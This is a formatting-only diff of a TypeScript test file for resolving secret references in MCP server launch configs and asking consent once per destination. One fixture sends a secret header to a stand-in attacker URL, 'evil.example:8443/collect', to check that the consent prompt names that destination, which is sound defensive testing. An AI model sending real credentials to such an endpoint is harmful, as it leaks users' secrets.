@@ -16,7 +16,12 @@ const anywhere = (): SecretDestination => ({ origin: 'o', server: 's', source: '
 describe('resolveSecrets', () => {
   it('fills env values of a stdio server, leaving other text alone', async () => {
     const launch = await resolveSecrets(
-      { type: 'stdio', command: 'node', args: ['${secret:openai-api-key}'], env: { KEY: '${secret:openai-api-key}', MIX: 'a-${secret:region}-${secret:region}', PLAIN: 'x' } },
+      {
+        type: 'stdio',
+        command: 'node',
+        args: ['${secret:openai-api-key}'],
+        env: { KEY: '${secret:openai-api-key}', MIX: 'a-${secret:region}-${secret:region}', PLAIN: 'x' },
+      },
       secret,
       anywhere,
     );
@@ -25,7 +30,11 @@ describe('resolveSecrets', () => {
   });
 
   it('fills headers of an http server', async () => {
-    const launch = await resolveSecrets({ type: 'http', url: 'https://example.com/mcp', headers: { Authorization: 'Bearer ${secret:openai-api-key}' } }, secret, anywhere);
+    const launch = await resolveSecrets(
+      { type: 'http', url: 'https://example.com/mcp', headers: { Authorization: 'Bearer ${secret:openai-api-key}' } },
+      secret,
+      anywhere,
+    );
     assert.deepEqual(launch.type === 'http' && launch.headers, { Authorization: 'Bearer sk-saved-1' });
   });
 
@@ -41,7 +50,12 @@ describe('resolveLaunch', () => {
   const stdio: ServerConfig = {
     name: 'weather',
     source: '.vscode/mcp.json',
-    transport: { type: 'stdio', command: 'npx', args: ['weather-mcp'], env: { API_KEY: '${secret:openai-api-key}', ALSO: '${secret:openai-api-key}' } },
+    transport: {
+      type: 'stdio',
+      command: 'npx',
+      args: ['weather-mcp'],
+      env: { API_KEY: '${secret:openai-api-key}', ALSO: '${secret:openai-api-key}' },
+    },
     origin: { file: 'file:///ws/.vscode/mcp.json', folder: '/ws' },
   };
 
@@ -51,15 +65,27 @@ describe('resolveLaunch', () => {
     assert.deepEqual(launch.type === 'stdio' && launch.env, { API_KEY: 'sk-saved-1', ALSO: 'sk-saved-1' });
     assert.deepEqual(asked[0], [
       'openai-api-key',
-      { origin: serverOrigin(stdio), server: 'weather', source: '.vscode/mcp.json', target: 'the environment (API_KEY, ALSO) of `npx weather-mcp`' },
+      {
+        origin: serverOrigin(stdio),
+        server: 'weather',
+        source: '.vscode/mcp.json',
+        target: 'the environment (API_KEY, ALSO) of `npx weather-mcp`',
+      },
     ]);
-    const http: ServerConfig = { name: 'api', source: 'f', transport: { type: 'http', url: 'https://evil.example:8443/collect?x=1', headers: { 'X-Key': '${secret:region}' } } };
+    const http: ServerConfig = {
+      name: 'api',
+      source: 'f',
+      transport: { type: 'http', url: 'https://evil.example:8443/collect?x=1', headers: { 'X-Key': '${secret:region}' } },
+    };
     await resolveLaunch(http, { secret: async (name, destination) => (asked.push([name, destination]), saved[name]) });
     assert.equal(asked[2]![1].target, 'a header (X-Key) sent to https://evil.example:8443');
   });
 
   it('leaves a reference inside an envFile as written: only the reviewed config may name a secret', async () => {
-    const withFile: ServerConfig = { ...stdio, transport: { ...stdio.transport, env: { PLAIN: '1' }, envFile: '.env' } as ServerConfig['transport'] };
+    const withFile: ServerConfig = {
+      ...stdio,
+      transport: { ...stdio.transport, env: { PLAIN: '1' }, envFile: '.env' } as ServerConfig['transport'],
+    };
     const launch = await resolveLaunch(withFile, { secret, readText: async () => 'FROM_FILE=${secret:openai-api-key}\n' });
     assert.deepEqual(launch.type === 'stdio' && launch.env, { FROM_FILE: '${secret:openai-api-key}', PLAIN: '1' });
   });
@@ -71,7 +97,12 @@ describe('resolveLaunch', () => {
 });
 
 describe('SecretGrants', () => {
-  const destination = (origin: string): SecretDestination => ({ origin, server: 'weather', source: '.vscode/mcp.json', target: 'the environment (K) of `x`' });
+  const destination = (origin: string): SecretDestination => ({
+    origin,
+    server: 'weather',
+    source: '.vscode/mcp.json',
+    target: 'the environment (K) of `x`',
+  });
 
   it('asks once per secret and destination and remembers the answer', async () => {
     const questions: string[] = [];
@@ -106,7 +137,11 @@ describe('SecretGrants', () => {
       return true;
     });
     assert.equal(await grants.lookup('missing', destination('a')), undefined);
-    await Promise.all([grants.lookup('region', destination('a')), grants.lookup('region', destination('a')), grants.lookup('region', destination('b'))]);
+    await Promise.all([
+      grants.lookup('region', destination('a')),
+      grants.lookup('region', destination('a')),
+      grants.lookup('region', destination('b')),
+    ]);
     assert.equal(most, 1);
   });
 
@@ -120,7 +155,11 @@ describe('SecretGrants', () => {
   });
 });
 
-function memoryStore(): { data: Record<string, unknown>; get<T>(key: string, fallback: T): T; update(key: string, value: unknown): Promise<void> } {
+function memoryStore(): {
+  data: Record<string, unknown>;
+  get<T>(key: string, fallback: T): T;
+  update(key: string, value: unknown): Promise<void>;
+} {
   const data: Record<string, unknown> = {};
   return {
     data,
